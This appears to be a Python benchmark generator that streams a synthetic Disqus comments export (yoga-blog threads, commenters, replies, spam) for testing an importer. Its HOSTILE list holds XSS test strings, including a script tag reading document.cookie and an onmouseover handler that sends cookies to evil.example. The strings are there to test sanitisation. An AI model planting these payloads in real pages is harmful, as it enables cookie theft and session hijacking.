"""A realistic Disqus export of any size, written as a stream (constant memory, seeded).

    .venv/bin/python -m bench.disqus_export --comments 1000000 --threads 100000 /tmp/big.xml
    .venv/bin/python -m bench.disqus_export --comments 1000 --threads 100 small.xml.gz

The shape is the one Disqus mails from Admin → Moderation → Export ("Comments Export",
https://help.disqus.com/en/articles/1717164-comments-export; schema
http://disqus.com/api/schemas/1.0/disqus.xsd), as real exports have it (remark42's fixture
backend/app/migrator/disqus_test.go, Isso's isso/tests/disqus.xml):

    <disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals" ...>
      <category dsq:id>forum, title, isDefault</category>
      <thread dsq:id>id (the page's disqus_identifier, often empty), forum, <category dsq:id/>,
        link, title, message (usually empty), createdAt, author (email, name, isAnonymous,
        username), ipAddress, isClosed, isDeleted</thread>          ... every thread, then
      <post dsq:id>id (usually empty), message (HTML in CDATA), createdAt, isDeleted, isSpam,
        author (email — empty for some social logins —, name, isAnonymous, username unless
        a guest), ipAddress, <thread dsq:id/>, <parent dsq:id/> for a reply</post>  ... every post
    </disqus>

What is in it: `--threads` pages published one after the other over 2012-2024 on
https://blog.example/YYYY/MM/slug-N/ (some slugs percent-encoded Unicode; about 2% of the
threads are an earlier page again with a `?utm_…` query string, as Disqus makes a new thread
when a page is first loaded under another URL; 3% closed, 0.5% deleted), then `--comments`
posts in the order they were written: each on one of the ~50 most recent pages (3% on any
older one), ~40% replies to an earlier post of the same thread, ~2% deleted, ~5% spam, 200-600
characters of HTML (<p>, <a href rel=nofollow>, <b>, <i>, <br>, <code>, accents and emoji,
~0.5% hostile: <script>, onerror=, javascript: links, a `]]>` split over two CDATA sections),
from ~20,000 commenters of very uneven activity (10% guests: isAnonymous, no username; 8%
social logins without an email). The same seed writes the same bytes.

Memory stays flat whatever the size: the only state is the recent posts of the ~50 live
threads. `--stats` (by default OUT + ".json") receives what was written, for checking an
importer's summary: posts, deleted, spam, replies, threads.
"""

from __future__ import annotations

import argparse
import gzip
import json
import random
import time
from collections import deque
from collections.abc import Iterator
from dataclasses import asdict, dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote, unquote

FORUM = "blogexample"
CATEGORY_ID = 4242421
THREAD_ID_BASE = 1_300_000_000
POST_ID_BASE = 400_000_000
START = datetime(2012, 1, 1, tzinfo=UTC)
SPAN = datetime(2024, 12, 31, tzinfo=UTC) - START
LIVE_THREADS = 50  # a post lands on one of the most recent pages...
OLD_THREAD_SHARE = 0.03  # ...or, this often, on any older one
REPLY_CHANCE = 0.45  # of a post on a thread that has some: ~40% of all posts are replies
DELETED_SHARE = 0.02
SPAM_SHARE = 0.05
HOSTILE_SHARE = 0.005
COMMENTERS = 20_000
RECENT_PER_THREAD = 12  # the posts of a thread a reply may answer

WORDS = [
    "yoga",
    "hips",
    "stretch",
    "morning",
    "routine",
    "breath",
    "pose",
    "knee",
    "back",
    "shoulder",
    "runner",
    "desk",
    "posture",
    "warm",
    "cool",
    "week",
    "habit",
    "strength",
    "balance",
    "core",
    "spine",
    "tight",
    "easy",
    "hard",
    "slow",
    "minute",
    "side",
    "mat",
    "block",
    "strap",
    "teacher",
    "class",
    "beginner",
    "advanced",
    "pigeon",
    "lizard",
    "bridge",
    "plank",
    "twist",
    "fold",
]
UNICODE_SLUGS = (
    "café-crème",
    "über-dehnung",
    "растяжка-утром",
    "요가-스트레칭",
    "ストレッチ入門",
    "niño-y-señora",
    "ćwiczenia-łatwe",
)
UTM = (
    "?utm_source=twitter&utm_medium=social",
    "?utm_source=newsletter&utm_medium=email&utm_campaign=weekly",
    "?utm_source=feedburner&utm_medium=feed&utm_campaign=Feed%3A+blogexample",
    "?fbclid=IwAR0abcDEF123",
)
SENTENCES = (
    "Pigeon pose helped me a lot, thank you!",
    "I tried this for a week and my hips feel much better.",
    "Does this work for runners too?",
    "Hold it for thirty seconds — is that per side?",
    "Great post, I shared it with my class.",
    "The clamshell variation is harder than it looks.",
    "My physio said almost the same thing last year.",
    "I disagree a little: warming up first matters more than the stretch itself.",
    "Merci beaucoup, très utile pour mon dos !",
    "Danke, genau das habe ich gesucht.",
    "Спасибо, очень полезно.",
    "Gracias, lo probaré mañana por la mañana.",
    "This is the third time I come back to this page 😊",
    "Any tips for someone with a bad knee?",
    "I do it at my desk between meetings, nobody notices.",
    "Ten minutes every morning, that's all it took.",
    "Could you write a follow-up about the lower back?",
    "Not sure about the breathing part, it made me dizzy.",
    "I've been doing yoga for 12 years & still learn things here.",
    "Quick question: mat or no mat for this one?",
    "The video in the second section doesn't load for me.",
    "Bookmarked. 👍",
    "Same here, it took a couple of weeks before I felt a difference.",
    'Interesting, although "no pain no gain" is exactly what you should not do.',
)
LINKS = (
    "https://example.org/running",
    "https://en.wikipedia.org/wiki/Yoga_as_exercise",
    "http://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://blog.example/2015/03/hips-101/",
    "https://example.com/shop?ref=blog&amp;id=12",
)
HOSTILE = (
    "<script>alert(document.cookie)</script>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">click me</a>',
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{display:none}</style>",
    "<b onmouseover=\"fetch('https://evil.example/?c='+document.cookie)\">hover</b>",
    "the end of a CDATA section ]]> inside the text",
)
FIRST = [
    "Anna",
    "Bob",
    "Carla",
    "Dmitri",
    "Émilie",
    "Fatima",
    "George",
    "Hana",
    "Ingrid",
    "José",
    "Kenji",
    "Léa",
    "Mohammed",
    "Nora",
    "Olu",
    "Priya",
    "Quentin",
    "Rosa",
    "Søren",
    "Tomás",
    "Ulla",
    "Vikram",
    "Wei",
    "Xavier",
    "Yuki",
    "Zoë",
]
LAST = [
    "Smith",
    "Müller",
    "Ivanova",
    "García",
    "Kowalski",
    "Nguyen",
    "Okafor",
    "Rossi",
    "Dubois",
    "Tanaka",
    "Kim",
    "Andersson",
    "O'Brien",
    "Silva",
    "Novák",
]


@dataclass
class Written:
    """What an export holds, for checking an importer's summary against it."""

    threads: int = 0
    posts: int = 0
    deleted: int = 0  # isDeleted true (spam or not)
    spam: int = 0  # isSpam true and not deleted
    replies: int = 0
    bytes: int = 0
    seconds: float = 0.0


def _iso(moment: datetime) -> str:
    return moment.strftime("%Y-%m-%dT%H:%M:%SZ")


def _cdata(html: str) -> str:
    # A literal "]]>" cannot be in a CDATA section: close it after "]]" and open another.
    return "<![CDATA[" + html.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


class Commenters:
    """~20,000 people, a few of them writing most of the comments (a Zipf-like pick)."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.people: list[str] = []
        for n in range(COMMENTERS):
            first, last = rng.choice(FIRST), rng.choice(LAST)
            name = _escape(f"{first} {last}" if rng.random() < 0.8 else f"{first.lower()}{n}")
            handle = f"{first}{last}{n}".lower().replace("'", "")
            kind = rng.random()
            if kind < 0.10:  # a guest: an email, no account
                author = (
                    f"<email>{quote(handle, safe='')}@mail.example</email>"
                    f"<name>{name}</name><isAnonymous>true</isAnonymous>"
                )
            elif kind < 0.18:  # a social login that shared no email
                author = (
                    f"<email/><name>{name}</name><isAnonymous>false</isAnonymous>"
                    f"<username>facebook-{1_000_000 + n}</username>"
                )
            else:
                author = (
                    f"<email>{quote(handle, safe='')}@mail.example</email><name>{name}</name>"
                    f"<isAnonymous>false</isAnonymous><username>{quote(handle, safe='')}</username>"
                )
            self.people.append("\n      " + author.replace("><", ">\n      <"))

    def pick(self) -> str:
        # paretovariate(1.1) - 1 is heavy-tailed: index 0 writes the most.
        return self.people[int((self.rng.paretovariate(1.1) - 1) * 50) % COMMENTERS]


def _ip(rng: random.Random) -> str:
    if rng.random() < 0.1:
        return f"2001:db8:{rng.randrange(65536):x}::{rng.randrange(65536):x}"
    return (
        f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
    )


def _message(rng: random.Random) -> str:
    """200-600 characters of comment HTML, as Disqus stores it."""
    target = rng.randrange(200, 601)
    paragraphs: list[str] = []
    size = 0
    while size < target:
        parts: list[str] = []
        for _ in range(rng.randrange(1, 4)):
            sentence = _escape(rng.choice(SENTENCES))
            roll = rng.random()
            if roll < 0.12:
                link = rng.choice(LINKS)
                sentence += (
                    f' See <a href="{link}" rel="nofollow noopener" title="{link}">{link}</a>'
                )
            elif roll < 0.22:
                word = rng.choice(WORDS)
                sentence = sentence.replace(" ", f" <b>{word}</b> ", 1)
            elif roll < 0.27:
                sentence = f"<i>{sentence}</i>"
            elif roll < 0.30:
                sentence += f" <code>{rng.choice(WORDS)}()</code>"
            parts.append(sentence)
        paragraph = "<br>".join(parts) if rng.random() < 0.15 else " ".join(parts)
        paragraphs.append(f"<p>{paragraph}</p>")
        size += len(paragraph) + 7
    if rng.random() < HOSTILE_SHARE:
        paragraphs.insert(rng.randrange(len(paragraphs) + 1), rng.choice(HOSTILE))
    return "".join(paragraphs)


def _slug(seed: int, index: int) -> str:
    """The page of thread `index`: the same for the same seed, whatever was written before."""
    rng = random.Random(seed * 1_000_003 + index)
    if rng.random() < 0.05:
        words = rng.choice(UNICODE_SLUGS)
    else:
        words = "-".join(rng.sample(WORDS, rng.randrange(2, 6)))
    return quote(f"{words}-{index}", safe="-")


def _thread_created(index: int, threads: int) -> datetime:
    return START + SPAN * index / threads


def _thread(seed: int, index: int, threads: int, rng: random.Random) -> str:
    created = _thread_created(index, threads)
    page = index
    query = ""
    if index > 0 and rng.random() < 0.02:  # an earlier page again, under another URL
        page = index - 1 - min(int(rng.expovariate(0.3)), index - 1)
        query = rng.choice(UTM)
    page_created = _thread_created(page, threads)
    slug = _slug(seed, page)
    link = f"https://blog.example/{page_created:%Y/%m}/{slug}/{query}"
    identifier = f"<id>{page} https://blog.example/?p={page}</id>" if index % 5 < 2 else "<id/>"
    title = _escape(unquote(slug).replace("-", " ").capitalize() + " & more")
    if rng.random() < 0.1:
        message = f"<message>{_cdata('<p>' + rng.choice(SENTENCES) + '</p>')}</message>"
    else:
        message = "<message/>"
    return (
        f'  <thread dsq:id="{THREAD_ID_BASE + index * 3}">\n'
        f"    {identifier}\n"
        f"    <forum>{FORUM}</forum>\n"
        f'    <category dsq:id="{CATEGORY_ID}"/>\n'
        f"    <link>{_escape(link)}</link>\n"
        f"    <title>{title}</title>\n"
        f"    {message}\n"
        f"    <createdAt>{_iso(created)}</createdAt>\n"
        "    <author>\n"
        "      <email>owner@blog.example</email>\n"
        "      <name>Blog Owner</name>\n"
        "      <isAnonymous>false</isAnonymous>\n"
        "      <username>blogowner</username>\n"
        "    </author>\n"
        f"    <ipAddress>{_ip(rng)}</ipAddress>\n"
        f"    <isClosed>{'true' if rng.random() < 0.03 else 'false'}</isClosed>\n"
        f"    <isDeleted>{'true' if rng.random() < 0.005 else 'false'}</isDeleted>\n"
        "  </thread>\n"
    )


def _chunks(comments: int, threads: int, seed: int, written: Written) -> Iterator[str]:
    rng = random.Random(seed)
    yield (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        'xsi:schemaLocation="http://disqus.com/api/schemas/1.0/disqus.xsd '
        'http://disqus.com/api/schemas/1.0/disqus-internals.xsd">\n'
        f'  <category dsq:id="{CATEGORY_ID}">\n'
        f"    <forum>{FORUM}</forum>\n"
        "    <title>General</title>\n"
        "    <isDefault>true</isDefault>\n"
        "  </category>\n"
    )
    batch: list[str] = []
    for index in range(threads):
        batch.append(_thread(seed, index, threads, rng))
        if len(batch) == 1000:
            yield "".join(batch)
            batch.clear()
    written.threads = threads
    commenters = Commenters(rng)
    recent: dict[int, deque[int]] = {}  # live thread -> its latest post ids
    step = SPAN / max(comments, 1)
    slice_seconds = max(1, int(step.total_seconds()))
    for n in range(comments):
        newest = n * threads // comments
        if rng.random() < OLD_THREAD_SHARE:
            thread = rng.randrange(newest + 1)
        else:
            thread = max(0, newest - min(int(rng.expovariate(0.08)), LIVE_THREADS - 1))
        # Within the n-th slice of the span: later posts are later, replies after parents.
        created = START + step * n + timedelta(seconds=rng.randrange(slice_seconds))
        post_id = POST_ID_BASE + n * 7 + rng.randrange(7)
        earlier = recent.get(thread)
        parent = ""
        if earlier and rng.random() < REPLY_CHANCE:
            parent = f'\n    <parent dsq:id="{rng.choice(earlier)}"/>'
            written.replies += 1
        deleted = rng.random() < DELETED_SHARE
        spam = rng.random() < SPAM_SHARE
        written.deleted += deleted
        written.spam += spam and not deleted
        own_id = f"<id>wp_id={n}</id>" if rng.random() < 0.05 else "<id/>"
        batch.append(
            f'  <post dsq:id="{post_id}">\n'
            f"    {own_id}\n"
            f"    <message>{_cdata(_message(rng))}</message>\n"
            f"    <createdAt>{_iso(created)}</createdAt>\n"
            f"    <isDeleted>{'true' if deleted else 'false'}</isDeleted>\n"
            f"    <isSpam>{'true' if spam else 'false'}</isSpam>\n"
            f"    <author>{commenters.pick()}\n    </author>\n"
            f"    <ipAddress>{_ip(rng)}</ipAddress>\n"
            f'    <thread dsq:id="{THREAD_ID_BASE + thread * 3}"/>{parent}\n'
            "  </post>\n"
        )
        if earlier is None:
            earlier = recent[thread] = deque(maxlen=RECENT_PER_THREAD)
        earlier.append(post_id)
        if n % 1000 == 999:
            yield "".join(batch)
            batch.clear()
            # Forget the threads that left the live window (old ones get top-level posts).
            for gone in [t for t in recent if t < newest - LIVE_THREADS]:
                del recent[gone]
    written.posts = comments
    batch.append("</disqus>\n")
    yield "".join(batch)


def write_export(path: Path, comments: int, threads: int, seed: int = 1) -> Written:
    """Write the export to `path` (gzip when it ends in .gz); what it holds."""
    written = Written()
    started = time.perf_counter()
    chunks = _chunks(comments, max(threads, 1), seed, written)
    if path.suffix == ".gz":
        with gzip.open(path, "wt", encoding="utf-8") as packed:
            packed.writelines(chunks)
    else:
        with path.open("w", encoding="utf-8", buffering=1 << 20) as plain:
            plain.writelines(chunks)
    written.seconds = round(time.perf_counter() - started, 2)
    written.bytes = path.stat().st_size
    return written


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--comments", type=int, default=1000)
    parser.add_argument("--threads", type=int, default=None, help="default: comments / 10")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--stats", type=Path, default=None, help="default: OUT.json")
    parser.add_argument("out", type=Path)
    args = parser.parse_args()
    threads = args.threads if args.threads is not None else max(1, args.comments // 10)
    written = write_export(args.out, args.comments, threads, args.seed)
    stats = args.stats or args.out.with_name(args.out.name + ".json")
    stats.write_text(json.dumps(asdict(written), indent=2) + "\n")
    print(json.dumps(asdict(written)))


if __name__ == "__main__":
    main()
